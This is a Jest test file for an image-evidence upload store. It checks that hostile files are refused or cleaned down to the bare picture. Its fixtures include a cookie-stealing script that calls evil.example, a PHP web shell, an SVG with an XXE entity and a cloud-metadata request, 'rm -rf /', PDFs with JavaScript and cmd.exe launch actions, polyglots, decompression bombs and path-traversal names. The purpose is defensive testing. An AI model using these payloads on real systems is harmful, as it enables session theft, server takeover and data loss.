import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateSync, gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import sharp from 'sharp';
import { createEvidenceStore, servingHeaders, type EvidenceStore } from '../../src/evidence/index.js';
import { fixedClock, randomIds, ServiceError } from '../../src/shared/index.js';

const latin = (text: string): Buffer => Buffer.from(text, 'latin1');
const SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script>';
const PHP = '<?php system($_GET["c"]); ?>';
const EICAR = String.raw`X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`;
/** End of an archive (jar, docx, zip): readers look for it from the end of a file. */
const ZIP_END = Buffer.concat([latin('PK\x05\x06'), Buffer.alloc(18)]);
const PAYLOADS = [SCRIPT, PHP, EICAR, 'PK\x05\x06', 'GPSLatitude', 'Tracer', '<svg', '/JavaScript'];

const picture = (format: 'jpeg' | 'png' | 'webp'): Promise<Buffer> =>
  sharp({ create: { width: 80, height: 60, channels: 3, background: '#aa5500' } })
    .toFormat(format)
    .toBuffer();

function chunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length);
  head.write(type, 4, 'latin1');
  return Buffer.concat([head, data, Buffer.alloc(4)]);
}

/** A PNG of which only the header is small: it says this size. */
async function pngSaying(width: number, height: number): Promise<Buffer> {
  const bytes = Buffer.from(await picture('png'));
  bytes.writeUInt32BE(width, 16);
  bytes.writeUInt32BE(height, 20);
  return bytes;
}

const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}<image href="http://169.254.169.254/"/></svg>`;
const pdf = (inner: string): Buffer =>
  latin(`%PDF-1.4\n1 0 obj << /Type /Catalog ${inner} >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n`);

type Make = () => Promise<Buffer> | Buffer;
const after =
  (format: 'jpeg' | 'png' | 'webp', tail: string | Buffer): Make =>
  async () =>
    Buffer.concat([await picture(format), typeof tail === 'string' ? latin(tail) : tail]);

/** Never kept, with the code that says why. */
const refused: readonly (readonly [string, string, Make])[] = [
  ['SVG with a script', 'evidence-type', () => latin(svg)],
  ['SVG behind an XML declaration', 'evidence-type', () => latin(`<?xml version="1.0"?>${svg}`)],
  [
    'SVG with an external entity',
    'evidence-type',
    () => latin(`<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg}`),
  ],
  ['HTML', 'evidence-type', () => latin(`<!doctype html>${SCRIPT}`)],
  ['HTML before a PDF', 'evidence-type', () => Buffer.concat([latin(SCRIPT), pdf('')])],
  ['GIFAR: a GIF that is an archive', 'evidence-type', () => Buffer.concat([latin('GIF89a\x01\0\x01\0'), ZIP_END])],
  ['an archive', 'evidence-type', () => Buffer.concat([latin('PK\x03\x04'), Buffer.alloc(40), ZIP_END])],
  [
    'an office document with macros',
    'evidence-type',
    () => Buffer.concat([latin('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'), Buffer.alloc(512)]),
  ],
  ['a gzip bomb', 'evidence-type', () => gzipSync(Buffer.alloc(20_000_000))],
  ['a program for Windows', 'evidence-type', () => latin(`MZ${'\0'.repeat(60)}`)],
  ['a program for Linux', 'evidence-type', () => latin('\x7fELF\x02\x01\x01')],
  ['a script', 'evidence-type', () => latin('#!/bin/sh\nrm -rf /\n')],
  ['EICAR', 'evidence-type', () => latin(EICAR)],
  ['an AVIF', 'evidence-type', () => Buffer.concat([Buffer.from([0, 0, 0, 24]), latin('ftypavif\0\0\0\0avifmif1')])],
  ['a picture of 50,000 x 50,000 pixels', 'evidence-unreadable', () => pngSaying(50_000, 50_000)],
  ['a picture one pixel high and 2^31 wide', 'evidence-unreadable', () => pngSaying(0x7fffffff, 1)],
  ['a PNG that ends in the middle', 'evidence-unreadable', async () => (await picture('png')).subarray(0, 60)],
  ['true first bytes of a JPEG and a script', 'evidence-unreadable', () => latin(`\xff\xd8\xff\xe0${SCRIPT}`)],
  [
    'a PNG inside the first bytes of a JPEG',
    'evidence-unreadable',
    async () => Buffer.concat([latin('\xff\xd8\xff'), await picture('png')]),
  ],
  ['a WebP whose content is a program', 'evidence-unreadable', () => latin(`RIFF\x40\0\0\0WEBPMZ${'\0'.repeat(64)}`)],
  ['a PDF that runs a script', 'evidence-unreadable', () => pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')],
  ['a PDF that starts a program', 'evidence-unreadable', () => pdf('/OpenAction << /S /Launch /F (cmd.exe) >>')],
  ['a PDF with a file inside', 'evidence-unreadable', () => pdf('/Names << /EmbeddedFiles 2 0 R >>')],
  [
    'a PDF whose script is written in escapes',
    'evidence-unreadable',
    () => pdf('/OpenAction << /S /#4aavaScript /JS (x) >>'),
  ],
  ['nothing', 'evidence-unreadable', () => Buffer.alloc(0)],
];

/** Kept as a picture and nothing else. */
const washed: readonly (readonly [string, Make])[] = [
  ['JPEG and HTML', after('jpeg', SCRIPT)],
  ['JPEG and PHP', after('jpeg', PHP)],
  ['JPEG and an archive', after('jpeg', ZIP_END)],
  ['PNG and HTML', after('png', SCRIPT)],
  ['PNG and a virus signature', after('png', EICAR)],
  ['WebP and an archive', after('webp', ZIP_END)],
  ['WebP and SVG', after('webp', svg)],
  ['JPEG and PDF with a script', after('jpeg', pdf('/OpenAction << /S /JavaScript >>'))],
  [
    'PNG with a compressed text of 64 MB',
    async () => {
      const bytes = await picture('png');
      const text = Buffer.concat([latin('Comment\0\0'), deflateSync(Buffer.alloc(64_000_000))]);
      return Buffer.concat([bytes.subarray(0, 33), chunk('zTXt', text), bytes.subarray(33)]);
    },
  ],
  [
    'JPEG with place and name in its EXIF',
    () =>
      sharp({ create: { width: 80, height: 60, channels: 3, background: '#aa5500' } })
        .withExif({ IFD0: { Artist: 'Tracercamera' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '14/1 35/1 0/1' } })
        .jpeg()
        .toBuffer(),
  ],
];

describe('hostile evidence', () => {
  let dir = '';
  let store: EvidenceStore;
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'evidence-corpus-'));
    const key = new Uint8Array(32).fill(7);
    store = createEvidenceStore({ dir, key, clock: fixedClock('2026-03-01T00:00:00Z'), ids: randomIds });
  });
  afterAll(() => rmSync(dir, { recursive: true }));

  it.each(refused)('refuses %s (%s)', async (_, code, make) => {
    const before = (await store.list()).length;
    const began = performance.now();
    const answer = await store.put(new Uint8Array(await make())).then(
      () => 'kept',
      (error: unknown) => (error instanceof ServiceError ? error.code : String(error)),
    );
    expect(answer).toBe(code);
    expect(performance.now() - began).toBeLessThan(5_000);
    expect(await store.list()).toHaveLength(before);
  });

  it.each(washed)('keeps of %s the picture alone', async (_, make) => {
    const kept = await store.put(new Uint8Array(await make()));
    const opened = await store.get(kept.id);
    if (!opened) throw new Error('not kept');
    const bytes = Buffer.from(opened.bytes);
    expect(PAYLOADS.filter((payload) => bytes.includes(latin(payload)))).toEqual([]);
    const shown = await sharp(bytes).metadata();
    expect([shown.width, shown.height, shown.exif, shown.xmp, shown.iptc]).toEqual([
      80,
      60,
      undefined,
      undefined,
      undefined,
    ]);
    expect(bytes.length).toBeLessThan(20_000);
    expect(servingHeaders(opened)).toMatchObject({ 'X-Content-Type-Options': 'nosniff' });
  });

  it('writes no file under a name that came from outside, whatever id is asked for', async () => {
    const names = [
      '../../etc/passwd',
      '..%2f..%2fx',
      'a'.repeat(26) + '/..',
      'A'.repeat(26),
      '',
      '\0'.repeat(26),
      'con',
    ];
    for (const name of names) {
      expect(await store.get(name)).toBeNull();
      await store.remove(name);
    }
    const files = readdirSync(dir, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile());
    expect(files.filter(({ name }) => !/^[a-z2-7]{26}\.evidence$/.test(name))).toEqual([]);
  });
});
